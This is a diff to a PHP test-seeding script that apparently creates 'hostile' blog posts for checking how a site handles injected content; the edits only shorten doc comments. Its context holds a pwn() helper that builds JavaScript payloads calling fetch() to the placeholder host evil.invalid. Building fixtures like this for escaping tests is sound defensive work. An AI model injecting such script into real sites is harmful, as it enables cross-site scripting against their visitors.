@@ -13,13 +13,7 @@ function pwn(string $name): string
   return "window.__pwned='$name';fetch('http://evil.invalid/$name')";
 }
 
-/**
- * One post for each payload, in the category `hostile`, with readable text before and after.
- *
- * @param array<string, int> $categories
- * @param array<string, int> $authors
- * @param array<string, int> $pictures
- */
+/** One post for each payload, in the category `hostile`, with readable text before and after. */
 function make_hostile_posts(array $categories, array $authors, array $pictures): void
 {
   $day = 500;
@@ -38,11 +32,7 @@ function make_hostile_posts(array $categories, array $authors, array $pictures):
   }
 }
 
-/**
- * The payloads by name.
- *
- * @return array<string, string>
- */
+/** The payloads by name. */
 function hostile_bodies(): array
 {
   $p = 'pwn';
